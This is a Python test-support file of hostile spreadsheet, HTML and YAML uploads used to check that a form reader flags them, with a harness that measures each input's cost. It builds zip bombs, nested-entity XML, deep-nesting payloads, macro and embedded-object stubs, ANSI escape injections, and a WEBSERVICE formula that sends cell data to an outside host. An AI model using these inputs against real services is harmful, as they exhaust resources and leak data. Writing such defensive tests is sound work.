"""Forms that a stranger could send: each with the code of the finding that it gets.

`python -m tests.support.hostile_forms` prints the processor time and memory that each takes.
"""

import io
import json
import re
import zipfile
from collections.abc import Callable, Mapping
from functools import cache, partial
from typing import Any, TypeAlias

import openpyxl

from tests.support.ministries import COAST, form, set_cell, written
from tests.support.page_answers import with_state

_MEBIBYTE = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
SHEETS = (SHEET, STRINGS, "xl/worksheets/sheet4.xml", "xl/workbook.xml")
"""Members of a workbook: of the questions, of all texts, of what the part carries, of the whole."""


@cache
def sound() -> bytes:
    """Return the form of an empty report."""
    return written(form({}))


def members_of(content: bytes) -> dict[str, bytes]:
    """Return the members of a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members: Mapping[str, bytes]) -> bytes:
    """Return a workbook of members."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return output.getvalue()


def with_member(name: str, content: Callable[[bytes], bytes]) -> bytes:
    """Return the form with another content of a member, which need not exist."""
    members = members_of(sound())
    return zipped({**members, name: content(members.get(name, b""))})


def in_sheet(xml: bytes) -> bytes:
    """Return the form with more rows in its first sheet."""
    return with_member(SHEET, lambda one: one.replace(b"</sheetData>", xml + b"</sheetData>"))


def with_doctype(one: bytes) -> bytes:
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "&%c;&%c;&%c;&%c;">' % (98 + n, 97 + n, 97 + n, 97 + n, 97 + n)
        for n in range(20)
    )
    return one.replace(b"?>", b"?>" + entities + b"]>", 1)


def _changed(change: Callable[[Any], None]) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(sound()))
    change(book)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def _merge(book: Any) -> None:
    book["Form"].merge_cells("E8:E12")


def _without_record(book: Any) -> None:
    del book["part"]


def _without_form(book: Any) -> None:
    del book["Form"]


def _foreign() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "Our own table"
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def encrypted_flag(content: bytes) -> bytes:
    """Return an archive whose members say that they are locked."""
    return re.sub(rb"(PK\x01\x02.{4}).", lambda found: found[1] + b"\x01", content, flags=re.DOTALL)


def _record(key: str, value: Any) -> bytes:
    """Return the form with another content of the hidden sheet."""

    def change(book: Any) -> None:
        sheet = book["part"]
        for row in range(1, sheet.max_row + 1):
            if sheet.cell(row, 1).value == key:
                sheet.cell(row, 2).value = value if isinstance(value, str) else json.dumps(value)
                return
        sheet.append([key, value if isinstance(value, str) else json.dumps(value)])

    return _changed(change)


def _spread(count: int) -> bytes:
    cells = b"".join(
        b'<row r="%d"><c r="E%d" t="n"><v>1</v></c></row>' % (n, n) for n in range(100, count)
    )
    return in_sheet(cells)


def _answer(value: Any) -> bytes:
    return set_cell(sound(), "pay-rule", "answer", value)


def _yaml(old: str, new: str) -> bytes:
    return written(form({}), "yaml").decode().replace(old, new, 1).encode()


def _page(old: bytes = b"", new: bytes = b"") -> bytes:
    return written(form({}), "html").replace(old, new, 1)


FORMS: Mapping[str, tuple[str, Callable[[], bytes], str]] = {
    "a bomb of one member": (
        "a.xlsx",
        lambda: zipped({"xl/workbook.xml": b"\0" * 60 * _MEBIBYTE}),
        "F003",
    ),
    "a bomb of many members": (
        "a.xlsx",
        lambda: zipped({f"xl/{n}.bin": b"\0" * 7 * _MEBIBYTE for n in range(20)}),
        "F003",
    ),
    "ten thousand members": (
        "a.xlsx",
        lambda: zipped({f"xl/{n}.xml": b"" for n in range(10_000)}),
        "F003",
    ),
    "entities in entities": ("a.xlsx", lambda: with_member(SHEET, with_doctype), "F004"),
    "entities in the strings": ("a.xlsx", lambda: with_member(STRINGS, with_doctype), "F004"),
    "a sheet in UTF-16": (
        "a.xlsx",
        lambda: with_member(SHEET, lambda one: one.decode().encode("utf-16")),
        "F004",
    ),
    "a sheet in another encoding": (
        "a.xlsx",
        lambda: with_member(SHEET, lambda one: one.replace(b"UTF-8", b"UTF-7", 1)),
        "F004",
    ),
    "the last cell of a sheet": (
        "a.xlsx",
        lambda: in_sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "F003",
    ),
    "a million rows by their numbers": ("a.xlsx", partial(_spread, 120_000), "F003"),
    "300,000 strings": (
        "a.xlsx",
        lambda: with_member(
            STRINGS, lambda one: one.replace(b"</sst>", b"<si><t>a</t></si>" * 180_000 + b"</sst>")
        ),
        "F003",
    ),
    "300,000 merged cells": (
        "a.xlsx",
        lambda: with_member(
            SHEET,
            lambda one: one.replace(
                b"</sheetData>",
                b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:B2"/>' * 290_000,
            ),
        ),
        "F002",
    ),
    "a hundred thousand levels": (
        "a.xlsx",
        lambda: with_member(SHEET, lambda one: b"<a>" * 100_000),
        "F002",
    ),
    "140,000 cells without an address": (
        "a.xlsx",
        lambda: in_sheet(
            b"".join(
                b'<row r="%d">' % row + b"<c><v>1</v></c>" * 39 + b"</row>"
                for row in range(100, 3_700)
            )
        ),
        "",
    ),
    "5,000 unknown addresses": (
        "a.xlsx",
        lambda: in_sheet(
            b"".join(
                b'<row r="%d"><c t="inlineStr"><is><t>a/%d</t></is></c><c><v>1</v></c></row>'
                % (row, row)
                for row in range(100, 5_100)
            )
        ),
        "F012",
    ),
    "macros": (
        "a.xlsm",
        lambda: with_member("xl/vbaProject.bin", lambda one: b"Auto_Open"),
        "F005",
    ),
    "a link to another workbook": (
        "a.xlsx",
        lambda: with_member("xl/externalLinks/externalLink1.xml", lambda one: b"<externalLink/>"),
        "F005",
    ),
    "an embedded object": (
        "a.xlsx",
        lambda: with_member("xl/embeddings/oleObject1.bin", lambda one: b"MZ"),
        "F005",
    ),
    "a formula": ("a.xlsx", lambda: _answer('=HYPERLINK("https://example.org")'), "F006"),
    "a formula that asks another machine": (
        "a.xlsx",
        lambda: _answer('=WEBSERVICE("https://example.org/?"&A1)'),
        "F006",
    ),
    "an error in place of a value": ("a.xlsx", lambda: _answer("#REF!"), "F007"),
    "a control character": (
        "a.xlsx",
        lambda: in_sheet(
            b'<row r="90"><c r="A90" t="inlineStr"><is><t>pay-rule</t></is></c>'
            b'<c r="E90" t="inlineStr"><is><t>_x001B_[2J</t></is></c></row>'
        ),
        "F007",
    ),
    "merged cells": ("a.xlsx", lambda: _changed(_merge), "F011"),
    "a sheet that is not there": ("a.xlsx", lambda: _changed(_without_form), "F001"),
    "no hidden sheet": ("a.xlsx", lambda: _changed(_without_record), "F001"),
    "a foreign workbook": ("a.xlsx", _foreign, "F001"),
    "a report under the name of a form": (
        "a.yaml",
        lambda: b"checklist_report: 1\nanswers: {}\n",
        "F001",
    ),
    "another identity": ("a.xlsx", lambda: _record("identity", {"part": 1}), "F001"),
    "an identity that is no JSON": ("a.xlsx", lambda: _record("identity", "[" * 20_000), "F001"),
    "NaN in what it was sent with": ("a.xlsx", lambda: _record("pay-rule", "NaN"), "F001"),
    "another answer in what it was sent with": (
        "a.xlsx",
        lambda: _record("pay-rule", '"law"'),
        "F010",
    ),
    "nonsense in what it was sent with": (
        "a.xlsx",
        lambda: _record("pay-rule", {"a": [1]}),
        "F012",
    ),
    "what there is not in what it was sent with": (
        "a.xlsx",
        lambda: _record("no-question/9/9", 1),
        "F012",
    ),
    "an old workbook": ("a.xls", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 512, "F002"),
    "half a workbook": ("a.xlsx", lambda: sound()[: len(sound()) // 2], "F002"),
    "a workbook that says it is locked": (
        "a.xlsx",
        lambda: encrypted_flag(sound()),
        "F002",
    ),
    "an archive without a workbook": ("a.xlsx", lambda: zipped({"a.txt": b"a"}), "F002"),
    "an OpenDocument file": (
        "a.ods",
        lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "F002",
    ),
    "a text": ("a.txt", lambda: b"Dear Kari,", "F002"),
    "a foreign page": ("a.html", lambda: b"<html>", "F001"),
    "a page that ends before its answers": (
        "a.html",
        lambda: _page().partition(b'<script type="application/json" id="form-answers"')[0],
        "F002",
    ),
    "a page that ends in the middle of its questions": (
        "a.html",
        lambda: _page()[:30_000].partition(b'id="form-part"')[0],
        "F002",
    ),
    "a page that ends in the middle of its data": (
        "a.html",
        lambda: _page().partition(b'"base"')[0],
        "F002",
    ),
    "a page of another version": ("a.html", lambda: _page(b'_form":1', b'_form":2'), "F001"),
    "a page with foreign JSON": (
        "a.html",
        lambda: with_state(_page(), {"cells": [1], "entries": "a", "closing": {"#remark": [[1]]}}),
        "F007",
    ),
    "a page with texts that are none": (
        "a.html",
        lambda: with_state(_page(), {"cells": {"pay-rule": {"answer": {"a": 1}, "note": 1}}}),
        "F007",
    ),
    "a page with a control character": (
        "a.html",
        lambda: with_state(_page(), {"cells": {"pay-rule": {"answer": "\x1b[2J"}}}),
        "F007",
    ),
    "a page with fields that there are not": (
        "a.html",
        lambda: with_state(_page(), {"cells": {"\x1b]0;": {"answer": "a"}}, "entries": {"a": [1]}}),
        "F012",
    ),
    "a page with entries that are none": (
        "a.html",
        lambda: with_state(_page(), {"entries": {"inspections": 7, "laws": [[], {"cells": 1}]}}),
        "F007",
    ),
    "a page with a hundred thousand levels": (
        "a.html",
        lambda: _page(b'id="form-answers">{}', b'id="form-answers">' + b"[" * 100_000),
        "F002",
    ),
    "a page with a hundred levels": (
        "a.html",
        lambda: _page(b'-answers">{}', b'-answers">{"a":' + b"[" * 99 + b"]" * 99 + b"}"),
        "F002",
    ),
    "a page with a key that stands twice": (
        "a.html",
        lambda: _page(b'-answers">{}', b'-answers">{"cells":{},"cells":{}}'),
        "F002",
    ),
    "a page with NaN": ("a.html", lambda: _page(b'-answers">{}', b'-answers">{"a":NaN}'), "F002"),
    "a page with a number of 5,000 digits": (
        "a.html",
        lambda: _page(b'-answers">{}', b'-answers">{"a":' + b"9" * 5_000 + b"}"),
        "F002",
    ),
    "a page of half a million tags": (
        "a.html",
        lambda: b"<script " * 250_000 + b"<!--" * 250_000,
        "F001",
    ),
    "a page in UTF-16": ("a.html", lambda: _page().decode().encode("utf-16"), "F004"),
    "a page with another answer in what it was sent with": (
        "a.html",
        lambda: _page(b'"base":{}', b'"base":{"pay-rule":"law"}'),
        "F010",
    ),
    "nothing": ("a.xlsx", lambda: b"", "F002"),
    "YAML that is none": ("a.yaml", lambda: b"a: [", "F002"),
    "YAML with aliases": ("a.yaml", lambda: b"a: &a [1]\nb: [*a, *a]\n", "F002"),
    "a YAML form with lists in place of answers": (
        "a.yaml",
        lambda: _yaml("  pay-rule:\n", "  pay-rule: [[[[1]]]]\n"),
        "F007",
    ),
    "a YAML form with a mapping in place of a text": (
        "a.yaml",
        lambda: _yaml("  pay-details:\n", "  pay-details: {value: {a: {b: 1}}}\n"),
        "F012",
    ),
    "a YAML form with a truth in place of an answer": (
        "a.yaml",
        lambda: _yaml("  pay-rule:\n", "  pay-rule: true\n"),
        "F007",
    ),
}
"""The files by what they are: the name, the content, and the code of the finding."""


Forms: TypeAlias = Mapping[str, tuple[str, Callable[[], bytes], str]]


def main_of(forms: Forms) -> None:
    """Print what each form costs, each in a process of its own."""
    import multiprocessing

    context = multiprocessing.get_context("fork")
    for name, (file, make, code) in forms.items():
        content = make()
        ours, theirs = context.Pipe()
        process = context.Process(target=_measured, args=(content, file, theirs))
        process.start()
        seconds, mebibytes, found = ours.recv()
        process.join()
        print(f"{name:48} {code} {found:20} {len(content):>9} B {seconds:6.2f} s {mebibytes:5} MiB")


def _measured(content: bytes, file: str, pipe: Any) -> None:
    import resource
    import time

    from checklist.forms.registry import read_return

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    begin = time.process_time()
    one = read_return(content, file, COAST)
    seconds = time.process_time() - begin
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
    pipe.send((seconds, grown, ",".join(sorted({found.code for found in one.findings}))))


if __name__ == "__main__":
    main_of(FORMS)
